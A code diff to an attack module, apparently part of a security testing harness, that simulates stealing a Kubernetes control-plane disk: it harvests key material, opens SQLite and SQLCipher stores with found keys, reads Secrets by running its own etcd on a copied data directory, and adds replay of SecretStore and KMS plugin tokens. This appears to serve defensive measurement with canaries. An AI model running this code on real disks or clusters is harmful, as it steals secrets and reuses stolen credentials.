@@ -1,7 +1,8 @@
 // disk: an offline copy of the control-plane node's disk. The attacker searches every file for canaries, collects key
 // material from the files (configuration text, raw key files), reads stored values from the databases it finds - a
 // SQLite store directly (trying the keys it found when the file is SQLCipher-encrypted), an etcd member directory by
-// starting its own etcd on a copy of it - and decrypts what it can.
+// starting its own etcd on a copy of it - and decrypts what it can. Credentials found on the disk are reused: a KMS
+// plugin's key-server token, and a SecretStore's token Secret in the datastore (secret-store-tokens.ts).
 import Database from 'better-sqlite3-multiple-ciphers';
 import { cp, mkdir, readdir, readFile, stat } from 'node:fs/promises';
 import { join, relative } from 'node:path';
@@ -13,6 +14,7 @@ import { runEtcd } from '../etcd-runner.js';
 import { findKeyCandidates, type KeyCandidate } from '../key-candidates.js';
 import { emptyLoot, type Loot } from '../loot.js';
 import { readEtcdSecrets } from './datastore-read.js';
+import { EXTERNAL_SECRETS_END, EXTERNAL_SECRETS_PREFIX, replaySecretStoreTokens } from './secret-store-tokens.js';
 
 const SQLITE_HEADER = Buffer.from('SQLite format 3\0', 'latin1');
 const MAX_FILE = 256 << 20;
@@ -31,16 +33,26 @@ async function walk(dir: string): Promise<string[]> {
 }
 
 /** Rows of every revision still in the file (old values included: a copy holds history until compaction). */
-function readSqliteRows(db: Database.Database, source: string): StoredValue[] {
+function readSqliteRows(db: Database.Database, source: string, from = SECRETS_FROM, to = SECRETS_TO): StoredValue[] {
   const rows = db
     .prepare('SELECT name, value, old_value FROM kv WHERE name >= ? AND name < ?')
-    .all(SECRETS_FROM, SECRETS_TO) as { name: string; value: Buffer | null; old_value: Buffer | null }[];
+    .all(from, to) as { name: string; value: Buffer | null; old_value: Buffer | null }[];
   return rows.flatMap((r) =>
     [r.value, r.old_value].filter((v): v is Buffer => v !== null && v.length > 0).map((value) => ({ key: r.name, value, source })),
   );
 }
 
-async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[], label: string, loot: Loot): Promise<StoredValue[]> {
+interface DbRead {
+  secrets: StoredValue[];
+  /** external-secrets.io objects (SecretStores, ExternalSecrets). */
+  objects: StoredValue[];
+}
+
+function readDb(db: Database.Database, source: string): DbRead {
+  return { secrets: readSqliteRows(db, source), objects: readSqliteRows(db, source, EXTERNAL_SECRETS_PREFIX, EXTERNAL_SECRETS_END) };
+}
+
+async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[], label: string, loot: Loot): Promise<DbRead> {
   const dir = join(scratch, `sqlite-${fingerprint(Buffer.from(file)).slice(7)}`);
   await mkdir(dir, { recursive: true });
   const copy = join(dir, 'copy.db');
@@ -52,9 +64,9 @@ async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[
   if (header.equals(SQLITE_HEADER)) {
     const db = new Database(copy);
     try {
-      const values = readSqliteRows(db, `disk: ${label} (SQLite, read directly)`);
-      loot.notes.push(`${label}: plain SQLite file, ${values.length} stored Secret value(s) read`);
-      return values;
+      const read = readDb(db, `disk: ${label} (SQLite, read directly)`);
+      loot.notes.push(`${label}: plain SQLite file, ${read.secrets.length} stored Secret value(s) read`);
+      return read;
     } finally {
       db.close();
     }
@@ -66,9 +78,9 @@ async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[
       db.pragma(`cipher = 'sqlcipher'`);
       db.key(k.bytes);
       db.prepare('SELECT count(*) FROM sqlite_master').get();
-      const values = readSqliteRows(db, `disk: ${label} (SQLCipher, opened with key ${fingerprint(k.bytes)} from ${k.where})`);
+      const read = readDb(db, `disk: ${label} (SQLCipher, opened with key ${fingerprint(k.bytes)} from ${k.where})`);
       loot.notes.push(`${label}: SQLCipher file opened with key ${fingerprint(k.bytes)} found on the disk (${k.where})`);
-      return values;
+      return read;
     } catch {
       // not this key
     } finally {
@@ -76,7 +88,7 @@ async function readSqliteCopy(file: string, scratch: string, keys: KeyCandidate[
     }
   }
   loot.notes.push(`${label}: no SQLite header (SQLCipher-encrypted); none of ${keys.filter((k) => k.bytes.length === 32).length} 32-byte key candidate(s) on the disk opens it`);
-  return [];
+  return { secrets: [], objects: [] };
 }
 
 /**
@@ -150,7 +162,12 @@ export const diskAttack: Attack = {
     loot.keys.push(...keys);
     loot.notes.push(`${files.length} file(s) searched; ${keys.length} key candidate(s) in them`);
     for (const file of files.filter((f) => f.endsWith('.yaml'))) await reuseKmsPluginCredentials(file, disk.root, loot);
-    for (const db of dbFiles) loot.values.push(...(await readSqliteCopy(db, target.scratch, keys, relative(disk.root, db), loot)));
+    const objects: StoredValue[] = [];
+    for (const db of dbFiles) {
+      const read = await readSqliteCopy(db, target.scratch, keys, relative(disk.root, db), loot);
+      loot.values.push(...read.secrets);
+      objects.push(...read.objects);
+    }
     for (const dir of etcdDirs) {
       // The attacker's own etcd on a copy of the member directory: what `etcd --force-new-cluster` on a stolen disk gives.
       const copy = join(target.scratch, `etcd-${etcdDirs.indexOf(dir)}`);
@@ -158,12 +175,15 @@ export const diskAttack: Attack = {
       const etcd = await runEtcd(copy, { forceNewCluster: true });
       try {
         const values = await readEtcdSecrets(etcd.endpoint, signal);
-        loot.values.push(...values.map((v) => ({ ...v, source: `disk: ${relative(disk.root, dir)} (etcd data dir, read with the attacker's own etcd)` })));
+        const source = `disk: ${relative(disk.root, dir)} (etcd data dir, read with the attacker's own etcd)`;
+        loot.values.push(...values.map((v) => ({ ...v, source })));
+        objects.push(...(await readEtcdSecrets(etcd.endpoint, signal, EXTERNAL_SECRETS_PREFIX)).map((v) => ({ ...v, source })));
         loot.notes.push(`${relative(disk.root, dir)}: etcd member directory, ${values.length} stored Secret value(s) read`);
       } finally {
         await etcd.stop();
       }
     }
+    if (objects.length > 0) await replaySecretStoreTokens(objects, loot.values, 'disk', loot, signal);
     return loot;
   },
 };
